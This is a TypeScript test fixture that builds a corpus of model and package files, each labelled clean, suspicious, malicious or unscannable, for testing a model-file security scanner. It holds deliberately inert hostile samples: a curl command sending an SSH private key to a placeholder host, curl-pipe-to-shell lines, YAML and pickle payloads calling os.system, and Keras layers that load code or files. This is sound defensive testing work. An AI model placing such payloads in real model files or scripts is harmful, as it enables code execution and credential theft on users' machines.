import { gzipSync } from 'node:zlib';
import type { ScanVerdict } from '../../../src/domain/scan.ts';
import { type Member, zip } from '../../../src/formats/zip/archive.fixture.ts';
import type { Json, JsonObject } from '../../../src/kernel/json.ts';
import { hdf5 } from './hdf5.ts';

/** One file of the corpus: what it is, why it is there, and what the scanner has to say of it. */
export interface Case {
  readonly path: string;
  readonly why: string;
  readonly verdict: ScanVerdict;
  readonly bytes: Uint8Array;
}

const NOBODY = 'http://127.0.0.1:9/x';
/** Base64 of a marshalled code object's first bytes, and padding: no interpreter runs it. */
const CODE = `4wEAAAAAAAAAAAAAAAEAAAADAAAA${'A'.repeat(80)}`;

const bytesOf = (value: string): Uint8Array => new TextEncoder().encode(value);
const json = (value: unknown): Uint8Array => bytesOf(JSON.stringify(value));
const given =
  (verdict: ScanVerdict) =>
  (path: string, why: string, bytes: Uint8Array | string): Case => ({
    path,
    why,
    verdict,
    bytes: typeof bytes === 'string' ? bytesOf(bytes) : bytes,
  });
const clean = given('clean');
const suspicious = given('suspicious');
const malicious = given('malicious');
const unscannable = given('unscannable');

/** A layer as Keras 3 writes it. */
function layer(className: string, config: Json = {}, module = 'keras.layers'): Json {
  return { module, class_name: className, config, registered_name: null };
}

function sequential(...layers: readonly Json[]): Json {
  return layer('Sequential', { name: 'm', layers }, 'keras');
}

function keras(config: Json, members: readonly Member[] = []): Uint8Array {
  return zip([
    { name: 'metadata.json', bytes: '{"keras_version": "3.15.1"}' },
    { name: 'config.json', bytes: JSON.stringify(config) },
    { name: 'model.weights.h5', bytes: hdf5({}) },
    ...members,
  ]);
}

const LAMBDA3 = layer('Lambda', { function: { class_name: '__lambda__', config: { code: CODE, defaults: null } } });
const LAMBDA2: Json = { class_name: 'Lambda', config: { function: [CODE, null, null], function_type: 'lambda' } };
const DENSE = layer('Dense', { units: 2, activation: 'relu' });

/** Keras 3 archives: what `load_model` would import, call, unpickle or open. */
export const KERAS: readonly Case[] = [
  clean('plain.keras', 'layers of the library', keras(sequential(DENSE, layer('Dropout', { rate: 0.1 })))),
  clean(
    'hub.keras',
    "presets of the Keras team name their library's classes",
    keras(sequential(layer('GemmaBackbone', {}, 'keras_hub.src.models.gemma.gemma_backbone'))),
  ),
  clean(
    'losses.keras',
    'functions of Keras by name, as compile() stores them',
    keras(sequential({ module: 'builtins', class_name: 'function', config: 'relu', registered_name: 'function' })),
  ),
  clean('vocabulary.keras', 'a vocabulary as a list', keras(sequential(layer('StringLookup', { vocabulary: ['a'] })))),
  malicious('lambda.keras', 'marshalled code', keras(sequential(LAMBDA3))),
  malicious(
    'nested.keras',
    'a Lambda within a wrapper within a model',
    keras(sequential(layer('TimeDistributed', { layer: sequential(layer('Bidirectional', { layer: LAMBDA3 })) }))),
  ),
  malicious('old-lambda.keras', 'the list form of Keras 2', keras(sequential(LAMBDA2))),
  malicious(
    'activation.keras',
    'code in place of an activation, without a class name',
    keras(sequential(layer('Dense', { activation: { value: [CODE, null, null] } }))),
  ),
  malicious(
    'loss.keras',
    'code in the compile configuration',
    keras({
      ...(sequential(DENSE) as object),
      compile_config: { loss: { class_name: '__lambda__', config: {} } },
    } as Json),
  ),
  malicious('module.keras', 'CVE-2025-1550', keras(sequential(layer('system', 'true', 'os')))),
  malicious(
    'function.keras',
    'a function of a module',
    keras(sequential({ class_name: 'function', module: 'subprocess', config: 'run', registered_name: 'run' })),
  ),
  malicious('builtins.keras', 'eval by name', keras(sequential(layer('eval', '1', 'builtins')))),
  malicious('get-file.keras', 'CVE-2025-8747', keras(sequential(layer('get_file', { origin: NOBODY }, 'keras.utils')))),
  malicious(
    'load.keras',
    "Keras' own loader",
    keras(sequential(layer('load_model', { filepath: NOBODY }, 'keras.models'))),
  ),
  malicious(
    'unsafe.keras',
    'CVE-2025-9906: switches safe mode off',
    keras(sequential(layer('enable_unsafe_deserialization', {}, 'keras.config'))),
  ),
  malicious(
    'torch.keras',
    'CVE-2025-49655: a pickled module',
    keras(sequential(layer('TorchModuleWrapper', { module: 'x' }))),
  ),
  malicious(
    'vocabulary-path.keras',
    'CVE-2025-12058',
    keras(sequential(layer('StringLookup', { vocabulary: '/etc/hostname' }))),
  ),
  malicious(
    'vocabulary-url.keras',
    'the same by address',
    keras(sequential(layer('IntegerLookup', { vocabulary: NOBODY }))),
  ),
  malicious(
    'text-vectorization.keras',
    'the same by climbing',
    keras(sequential(layer('TextVectorization', { vocabulary: '../../x' }))),
  ),
  suspicious(
    'vocabulary-beside.keras',
    'a file beside it',
    keras(sequential(layer('StringLookup', { vocabulary: 'v.txt' }))),
  ),
  suspicious(
    'custom.keras',
    'a registered class',
    keras(sequential({ class_name: 'L', module: null, config: {}, registered_name: 'Mine>L' })),
  ),
  suspicious('own-module.keras', 'a class of some package', keras(sequential(layer('Layer', {}, 'my_package.layers')))),
  suspicious(
    'two-configs.keras',
    'two configurations: readers differ in which they take',
    keras(sequential(DENSE), [{ name: 'config.json', bytes: JSON.stringify(sequential(DENSE)) }]),
  ),
  malicious(
    'second-config.keras',
    'the second configuration holds the code',
    keras(sequential(DENSE), [{ name: 'config.json', bytes: JSON.stringify(sequential(LAMBDA3)) }]),
  ),
  unscannable(
    'broken-config.keras',
    'a configuration that is no JSON',
    zip([{ name: 'config.json', bytes: '{"class_name": ' }]),
  ),
  malicious(
    'architecture.json',
    'to_json() with a Lambda',
    json({ class_name: 'Functional', config: { layers: [LAMBDA2] } }),
  ),
  malicious(
    'architecture.yaml',
    'the YAML of Keras 2',
    `class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n      function: [${CODE}, null, null]\n`,
  ),
  malicious(
    'tf-op.json',
    'a layer that writes files',
    json({
      class_name: 'Functional',
      config: { layers: [{ class_name: 'TFOpLambda', config: { function: 'io.write_file' } }] },
    }),
  ),
  clean(
    'tf-math.json',
    'a layer of arithmetic',
    json({
      class_name: 'Functional',
      config: { layers: [{ class_name: 'TFOpLambda', config: { function: 'math.add' } }] },
    }),
  ),
];

const MODEL_CONFIG = JSON.stringify({ class_name: 'Sequential', config: { layers: [LAMBDA2] } });
const PICKLED = Uint8Array.of(0x80, 4, ...bytesOf('cposix\nsystem\n(S"true"\ntR.'));

/** HDF5: attributes that are read as code, and links that lead out. */
export const HDF5: readonly Case[] = [
  clean('soft.h5', 'a soft link that leads nowhere', hdf5({ links: [{ kind: 'soft', name: 's', target: '/s' }] })),
  clean('cycle.h5', 'a group that holds itself', hdf5({ links: [{ kind: 'cycle', name: 'self' }] })),
  malicious('lambda.h5', 'the configuration of Keras 2', hdf5({ attributes: { model_config: MODEL_CONFIG } })),
  malicious('lambda.bin', 'the same under another name', hdf5({ attributes: { model_config: MODEL_CONFIG } })),
  malicious(
    'block.h5',
    'the same behind a user block',
    hdf5({ attributes: { model_config: MODEL_CONFIG }, userBlock: new Uint8Array(512) }),
  ),
  malicious(
    'external.h5',
    'a link to another file',
    hdf5({ links: [{ kind: 'external', name: 'x', file: '/etc/hostname' }] }),
  ),
  malicious(
    'climbing.h5',
    'a link that climbs',
    hdf5({ links: [{ kind: 'external', name: 'x', file: '../../x.h5' }] }),
  ),
  suspicious(
    'beside.h5',
    'a link to a file beside it',
    hdf5({ links: [{ kind: 'external', name: 'x', file: 'y.h5' }] }),
  ),
  malicious('raw.h5', 'values from another file', hdf5({ rawFiles: ['/etc/hostname'] })),
  suspicious(
    'user-defined.h5',
    'a link of a class of its own',
    hdf5({ links: [{ kind: 'user-defined', name: 'x', class: 200 }] }),
  ),
  malicious('pickled.h5', 'a pickle in an attribute, as PyTables reads it', hdf5({ attributes: { title: PICKLED } })),
  malicious(
    'program.h5',
    'a script before the data',
    hdf5({ attributes: { model_config: MODEL_CONFIG }, userBlock: filled('#!/bin/sh\ntrue\n', 512) }),
  ),
  malicious('both.h5', 'a pickle before the data', hdf5({ userBlock: padded(PICKLED, 512) })),
  unscannable('cut.h5', 'the half of a file', hdf5({ attributes: { model_config: MODEL_CONFIG } }).subarray(0, 120)),
  unscannable('end.h5', 'an end that lies', hdf5({ end: 1_000_000 })),
  unscannable('none.h5', 'no HDF5 at all', Uint8Array.of(1, 2, 3, 4, 5, 6, 7, 8, 0xff)),
  unscannable(
    'broken-config.h5',
    'a configuration that is no JSON',
    hdf5({ attributes: { model_config: '{"class_name": ' } }),
  ),
];

function padded(start: Uint8Array, size: number): Uint8Array {
  const bytes = new Uint8Array(size);
  bytes.set(start);
  return bytes;
}

function filled(start: string, size: number): Uint8Array {
  const bytes = new Uint8Array(size).fill(0x20);
  bytes.set(bytesOf(start));
  return bytes;
}

const flaxArray = (shape: number, bytes: number): readonly number[] => {
  const inner = [0x93, 0x91, shape, 0xa7, ...bytesOf('float32'), 0xc4, bytes, ...new Uint8Array(bytes)];
  return [0xc7, inner.length, 1, ...inner];
};
const map = (key: string, value: readonly number[]): Uint8Array =>
  Uint8Array.of(0x81, 0xa0 + key.length, ...bytesOf(key), ...value);

/** Flax: one value of MessagePack. */
export const FLAX: readonly Case[] = [
  clean('flax_model.msgpack', 'an array', map('w', flaxArray(2, 8))),
  suspicious('extension.msgpack', 'an extension that Flax does not have', map('w', [0xc7, 2, 42, 1, 2])),
  suspicious('reduce.msgpack', 'a key that some loader acts upon', map('__reduce__', [0xa1, 0x78])),
  malicious('pickled.msgpack', 'a pickle as bytes', map('w', [0xc4, PICKLED.length, ...PICKLED])),
  unscannable('lying.msgpack', 'an array that is shorter than its shape', map('w', flaxArray(9, 8))),
  unscannable('length.msgpack', 'a length past the end', map('w', [0xc6, 0xff, 0xff, 0xff, 0xff, 1])),
  unscannable('deep.msgpack', 'arrays in arrays', Uint8Array.from([...new Uint8Array(5000).fill(0x91), 0xc0])),
  unscannable('trailing.msgpack', 'a second value', Uint8Array.of(...map('w', flaxArray(2, 8)), ...PICKLED)),
  unscannable('cut.msgpack', 'cut short', map('w', flaxArray(2, 8)).subarray(0, 12)),
];

const skopsNode = (loader: string, module: string, name: string, content: Json = null): JsonObject => ({
  __class__: name,
  __module__: module,
  __loader__: loader,
  content,
  __id__: 1,
});
const skops = (content: Json): Uint8Array =>
  zip([
    { name: 'schema.json', bytes: JSON.stringify({ ...(content as object), protocol: 2, _skops_version: '0.16.0' }) },
  ]);
const pipeline = (inside: Json): Uint8Array =>
  skops(
    skopsNode('ObjectNode', 'sklearn.pipeline', 'Pipeline', {
      ...skopsNode('DictNode', 'builtins', 'dict', { steps: inside }),
      key_types: skopsNode('ListNode', 'builtins', 'list', []),
    }),
  );

export const SKOPS: readonly Case[] = [
  clean(
    'scaler.skops',
    'a class of scikit-learn',
    pipeline(skopsNode('ObjectNode', 'sklearn.preprocessing._data', 'StandardScaler')),
  ),
  clean('log.skops', 'a function of numpy', pipeline(skopsNode('TypeNode', 'numpy', 'float64'))),
  malicious('function.skops', 'a function of the system', pipeline(skopsNode('FunctionNode', 'os', 'system'))),
  malicious('operator.skops', 'CVE-2025-54412', pipeline(skopsNode('OperatorFuncNode', 'operator', 'call'))),
  malicious(
    'method.skops',
    'CVE-2025-54413: the class that is checked is not that of the object',
    pipeline(skopsNode('MethodNode', 'builtins', 'int', { func: 'run', obj: skopsNode('ObjectNode', 'my', 'Thing') })),
  ),
  malicious('builtin.skops', 'exec as a type', pipeline(skopsNode('TypeNode', 'builtins', 'exec'))),
  malicious('load.skops', 'a loader of arrays, which unpickles', pipeline(skopsNode('FunctionNode', 'numpy', 'load'))),
  suspicious('partial.skops', 'a partial call', pipeline(skopsNode('PartialNode', 'functools', 'partial'))),
  suspicious('own.skops', 'a class of some package', pipeline(skopsNode('ObjectNode', 'my_package', 'Model'))),
  suspicious(
    'unknown-node.skops',
    'a node that skops does not have',
    pipeline(skopsNode('MagicNode', 'sklearn.svm', 'SVC')),
  ),
];

const int = (value: number): readonly number[] => [
  value >>> 24,
  (value >>> 16) & 255,
  (value >>> 8) & 255,
  value & 255,
];
const rds = (...words: readonly (readonly number[])[]): Uint8Array =>
  Uint8Array.from([0x58, 0x0a, ...int(2), ...int(0x040302), ...int(0x020300), ...words.flat()]);
const symbol = (name: string): readonly number[] => [...int(1), ...int(9), ...int(name.length), ...bytesOf(name)];
const NIL = int(254);
const UNBOUND = int(252);
const GLOBAL = int(253);
const call = (name: string): readonly number[] => [...int(6), ...symbol(name), ...NIL];
const TAGGED = 0x400;
const native = (target: string): readonly number[] => [
  ...int(6),
  ...symbol('.Call'),
  ...int(2),
  ...symbol(target),
  ...NIL,
];

export const R: readonly Case[] = [
  clean('numbers.rds', 'whole numbers', rds(int(13), int(2), int(1), int(2))),
  clean('call.rds', 'the call that made a model', rds(call('lm'))),
  clean('kept.rds', 'a promise whose value is there', rds(int(5), int(13), int(1), int(7), call('lm'))),
  clean('ascii.rds', 'the ASCII form', 'A\n2\n262402\n131840\n13\n2\n1\n2\n'),
  malicious('promise.rds', 'CVE-2024-27322', rds(int(5 + TAGGED), GLOBAL, UNBOUND, call('system'))),
  malicious(
    'promise.RData',
    'the same in a workspace',
    Uint8Array.from([
      ...bytesOf('RDX2\n'),
      ...rds(int(2 + TAGGED), symbol('x'), int(5 + TAGGED), GLOBAL, UNBOUND, call('system'), NIL),
    ]),
  ),
  malicious(
    'squeezed.rds',
    'the same, compressed as R does',
    Uint8Array.from(gzipSync(rds(int(5 + TAGGED), GLOBAL, UNBOUND, call('system')))),
  ),
  suspicious('closure.rds', 'a function', rds(int(3 + TAGGED), GLOBAL, NIL, call('predict'))),
  clean('computes.rds', 'a function that only computes', rds(int(3 + TAGGED), GLOBAL, NIL, call('+'))),
  clean(
    'unasked.rds',
    'an argument that was never asked for',
    rds(int(5 + TAGGED), GLOBAL, UNBOUND, int(13), int(1), int(1)),
  ),
  clean('native.rds', 'a function of a family of models', rds(int(3 + TAGGED), GLOBAL, NIL, native('C_logit_link'))),
  suspicious('any-native.rds', 'any native', rds(int(3 + TAGGED), GLOBAL, NIL, native('C_anything'))),
  suspicious(
    'bound-native.rds',
    'a native that the file binds to a text',
    rds(
      int(19),
      int(2),
      int(3 + TAGGED),
      GLOBAL,
      NIL,
      native('C_logit_link'),
      int(2 + TAGGED),
      symbol('C_logit_link'),
      int(16),
      int(1),
      int(9),
      int(1),
      [0x61],
      NIL,
    ),
  ),
  suspicious(
    'handed.rds',
    'a function that is called by what hands it on',
    rds(int(3 + TAGGED), GLOBAL, NIL, int(6), symbol('('), int(2), symbol('get'), NIL),
  ),
  suspicious(
    'forged.rds',
    'byte code that calls what its source does not',
    rds(
      int(3 + TAGGED),
      GLOBAL,
      NIL,
      int(21),
      int(1),
      int(13),
      int(1),
      int(12),
      int(2),
      int(6),
      int(0),
      int(0),
      symbol('+'),
      int(254),
      int(254),
      int(1),
      symbol('get'),
    ),
  ),
  malicious(
    'compiled.rds',
    'a promise in byte code',
    rds(
      int(5 + TAGGED),
      GLOBAL,
      UNBOUND,
      int(21),
      int(1),
      int(13),
      int(1),
      int(12),
      int(1),
      int(6),
      int(0),
      int(0),
      symbol('readline'),
      int(254),
      int(254),
    ),
  ),
  suspicious('system.rds', 'a call that starts programs', rds(call('system'))),
  suspicious(
    'active.rds',
    'a variable that is a function',
    rds(int(2 + TAGGED + (1 << 27)), symbol('x'), int(13), int(1), int(1), NIL),
  ),
  unscannable('cut.rds', 'cut short', rds(int(13), int(1000), int(1))),
  unscannable('type.rds', 'a type that R does not have', rds(int(99))),
  unscannable('length.rds', 'a length past the end', rds(int(19), int(0x7fffffff))),
  unscannable(
    'deep.rds',
    'lists in lists without end',
    rds(...Array.from({ length: 4000 }, () => [...int(19), ...int(1)])),
  ),
];

const script = (code: string): Uint8Array =>
  zip([
    {
      name: 'm/data.pkl',
      bytes: Uint8Array.of(0x80, 2, 0x63, ...bytesOf('__torch__\nNet\n'), 0x29, 0x81, 0x7d, 0x62, 0x2e),
    },
    { name: 'm/code/__torch__.py', bytes: code },
    { name: 'm/constants.pkl', bytes: Uint8Array.of(0x80, 2, 0x29, 0x2e) },
    { name: 'm/version', bytes: '3\n' },
  ]);
const METHOD =
  'class Net(Module):\n  __parameters__ = []\n  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n';

export const TORCHSCRIPT: readonly Case[] = [
  clean('relu.pt', 'an operator of ATen', script(`${METHOD}    return torch.relu(x)\n`)),
  clean(
    'assert.pt',
    'a message may say anything',
    script(`${METHOD}    ops.prim.RaiseException("call os.system(x)")\n    return x\n`),
  ),
  clean('vision.pt', 'an operator of torchvision', script(`${METHOD}    return ops.torchvision.nms(x, x, 0.5)\n`)),
  malicious(
    'reads.pt',
    'maps a file as a tensor',
    script(`${METHOD}    return torch.from_file("/etc/hostname", False, 10)\n`),
  ),
  malicious('saves.pt', 'writes a file', script(`${METHOD}    ops.aten.save(x, "/tmp/x")\n    return x\n`)),
  malicious('python.pt', 'Python in its place', script('import os\nos.system("true")\n')),
  suspicious('custom.pt', 'an operator of some library', script(`${METHOD}    return ops.mine.run(x)\n`)),
];

export const PACKAGES: readonly Case[] = [
  clean('mar/clean.mar', 'a handler of TorchServe itself', mar({ handler: 'image_classifier' })),
  unscannable('mar/absent.mar', 'a handler that is not there', mar({ handler: 'other.py:handle' })),
  unscannable('mar/manifest.mar', 'no manifest', zip([{ name: 'handler.py', bytes: 'x = 1\n' }])),
  unscannable('mlflow-none/MLmodel', 'no flavors', 'artifact_path: model\nrun_id: x\n'),
  unscannable('list/config.json', 'a list where a map is taken', '[]'),
  unscannable('rank/adapter_config.json', 'a rank that is none', json({ peft_type: 'LORA', r: 0 })),
  suspicious('mar/handler.mar', 'a handler in the archive', mar({ handler: 'handler.py' })),
  suspicious(
    'mar/installs.mar',
    'packages to install',
    mar({ handler: 'text_classifier', requirementsFile: 'requirements.txt' }),
  ),
  clean(
    'mlflow/MLmodel',
    "MLflow's own loader",
    'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n',
  ),
  suspicious(
    'own/MLmodel',
    'a loader of some package',
    'flavors:\n  python_function:\n    loader_module: my.loader\n    code: code\n',
  ),
  malicious('evil/MLmodel', 'a module of the system', 'flavors:\n  python_function:\n    loader_module: os\n'),
  clean(
    'peft/adapter_config.json',
    'a base model of transformers',
    json({
      peft_type: 'LORA',
      auto_mapping: { base_model_class: 'LlamaModel', parent_library: 'transformers.models.llama.modeling_llama' },
    }),
  ),
  clean(
    'plain/adapter_config.json',
    'no mapping',
    json({ peft_type: 'LORA', auto_mapping: null, base_model_name_or_path: '/data/base' }),
  ),
  suspicious(
    'own/adapter_config.json',
    'a module of its own',
    json({ auto_mapping: { base_model_class: 'Net', parent_library: 'my_net' } }),
  ),
  malicious(
    'evil/adapter_config.json',
    'a module of the system',
    json({ auto_mapping: { base_model_class: 'system', parent_library: 'os' } }),
  ),
  clean(
    'net-symbol.json',
    'a symbol of MXNet',
    json({ nodes: [{ op: 'null', name: 'x', inputs: [] }], arg_nodes: [0], heads: [[0, 0, 0]] }),
  ),
  suspicious(
    'custom-symbol.json',
    'an operator in Python',
    json({
      nodes: [{ op: 'Custom', name: 'x', attrs: { op_type: 'mine' }, inputs: [] }],
      arg_nodes: [],
      heads: [[0, 0, 0]],
    }),
  ),
  unscannable(
    'trees.json',
    'a child that is no node',
    json({
      version: [3, 0, 0],
      learner: {
        gradient_booster: {
          model: { trees: [{ tree_param: { num_nodes: '1' }, left_children: [7], right_children: [-1] }] },
        },
      },
    }),
  ),
  unscannable(
    'sizes.json',
    'fewer values than nodes',
    json({
      version: [3, 0, 0],
      learner: { gradient_booster: { model: { trees: [{ tree_param: { num_nodes: '9' }, left_children: [-1] }] } } },
    }),
  ),
  unscannable('cut.ubj', 'cut short', Uint8Array.of(0x7b, 0x4c, 0, 0, 0, 0, 0, 0, 0, 7, 0x6c)),
  unscannable(
    'length.ubj',
    'more values than bytes',
    Uint8Array.of(0x5b, 0x24, 0x64, 0x23, 0x6c, 0x7f, 0xff, 0xff, 0xff),
  ),
  unscannable('deep.ubj', 'arrays in arrays', new Uint8Array(5000).fill(0x5b)),
  unscannable(
    'cut.cbm',
    'a core past the end',
    Uint8Array.of(0x43, 0x42, 0x4d, 0x31, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0),
  ),
  unscannable(
    'cut.params',
    'arrays that are not there',
    Uint8Array.of(0x12, 1, ...new Uint8Array(14), 9, 0, 0, 0, 0, 0, 0, 0),
  ),
  unscannable('cut.txt', 'trees without an end', 'tree\nversion=v4\nnum_class=1\nTree=0\n'),
  unscannable(
    'sizes.model',
    'trees of other sizes than told',
    'tree\nversion=v4\ntree_sizes=9\n\nTree=0\nnum_leaves=1\n\nend of trees\n',
  ),
];

function mar(model: JsonObject): Uint8Array {
  return zip([
    { name: 'MAR-INF/MANIFEST.json', bytes: JSON.stringify({ runtime: 'python', model }) },
    ...(model['handler'] === 'handler.py'
      ? [{ name: 'handler.py', bytes: 'def handle(data, context):\n    return data\n' }]
      : []),
  ]);
}

const header = (...bytes: readonly number[]): Uint8Array => Uint8Array.from([...bytes, ...new Uint8Array(1200)]);
const ELF = header(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 62, 0);

function pe(): Uint8Array {
  const bytes = header(0x4d, 0x5a, 0x90, 0);
  bytes[0x3c] = 0x80;
  bytes.set([0x50, 0x45, 0, 0], 0x80);
  return bytes;
}

/** Headers of programs, and nothing behind them. */
export const PROGRAMS: readonly Case[] = [
  suspicious('server', 'an ELF program', ELF),
  suspicious('ops.so', 'a library', header(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 62, 0)),
  suspicious('run.exe', 'a program of Windows', pe()),
  suspicious('run', 'a program of macOS', header(0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1)),
  suspicious('model.wasm', 'WebAssembly', Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0)),
  suspicious('model.llamafile', 'a program that is portable', header(...bytesOf("MZqFpD='\n"))),
  suspicious('Evil.class', 'a class of Java', header(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61)),
  suspicious(
    'x.pyc',
    'byte code of Python',
    Uint8Array.from([0xa7, 0x0d, 0x0d, 0x0a, ...new Uint8Array(12), 0xe3, 0, 0, 0, 0]),
  ),
  suspicious(
    'evil.jar',
    'a class in a jar',
    zip([{ name: 'Evil.class', bytes: header(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61) }]),
  ),
  malicious(
    'hidden.pt',
    'a program among the storages',
    zip([
      { name: 'm/data.pkl', bytes: Uint8Array.of(0x80, 2, 0x7d, 0x2e) },
      { name: 'm/version', bytes: '3\n' },
      { name: 'm/extra/payload', bytes: ELF },
    ]),
  ),
  clean(
    'MZ.md',
    'a text that begins like one',
    'MZ is how programs of DOS begin, and this is a text about them that is long enough.\n',
  ),
];

/** Settings, scripts and files that Python runs by their place. */
export const SETTINGS: readonly Case[] = [
  clean('hparams.yaml', 'a tuple, as Lightning writes it', 'betas: !!python/tuple\n- 0.9\n- 0.95\n'),
  clean(
    'model_config.yaml',
    'targets of a library',
    'model:\n  encoder:\n    _target_: nemo.collections.asr.modules.ConformerEncoder\n',
  ),
  malicious('apply.yaml', 'a call on load', 'x: !!python/object/apply:os.system ["true"]\n'),
  malicious('verbatim.yaml', 'the tag in full', 'x: !<tag:yaml.org,2002:python/object/new:os.system> ["true"]\n'),
  malicious(
    'handle.yaml',
    'the tag behind a handle',
    '%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ["true"]\n',
  ),
  malicious('target.yaml', 'CVE-2025-23304', 'model: {_target_: os.system, command: "true"}\n'),
  malicious('site.pth', 'a line that every start of Python runs', "import os; os.system('true')\n"),
  suspicious('install.sh', 'fetched and run', `#!/bin/sh\ncurl -s ${NOBODY} | sh\n`),
  clean('train.sh', 'a script that only trains', '#!/bin/sh\npython -m torch.distributed.run train.py --lr 1e-4\n'),
  suspicious(
    'evil.ipynb',
    'a notebook that fetches and runs',
    json({ nbformat: 4, cells: [{ cell_type: 'code', source: [`!curl ${NOBODY} | bash`] }] }),
  ),
  suspicious(
    'calls.ipynb',
    'a notebook that starts a program',
    json({ nbformat: 4, cells: [{ cell_type: 'code', source: 'import os\nos.system("true")' }] }),
  ),
  clean(
    'eval.ipynb',
    'a method that is called eval',
    json({
      nbformat: 4,
      cells: [
        { cell_type: 'code', source: 'model.eval()\nre.compile("a")\n' },
        { cell_type: 'markdown', source: 'eval(x)' },
      ],
    }),
  ),
  malicious('sends.sh', 'sends a secret away', `curl -s -d @$HOME/.ssh/id_ed25519 ${NOBODY}\n`),
  clean(
    'demo.ipynb',
    'a notebook',
    json({ nbformat: 4, cells: [{ cell_type: 'code', source: ['import torch\n', 'torch.ones(2)'] }] }),
  ),
  suspicious(
    'setup.py',
    'runs when the folder is installed',
    "import subprocess\nfrom setuptools import setup\nsubprocess.run(['true'])\nsetup(name='x')\n",
  ),
  suspicious('sitecustomize.py', 'runs when Python starts there', 'import os\n'),
];

/** Every case of packages. */
export const CASES: readonly Case[] = [
  ...KERAS,
  ...HDF5,
  ...FLAX,
  ...SKOPS,
  ...R,
  ...TORCHSCRIPT,
  ...PACKAGES,
  ...PROGRAMS,
  ...SETTINGS,
];
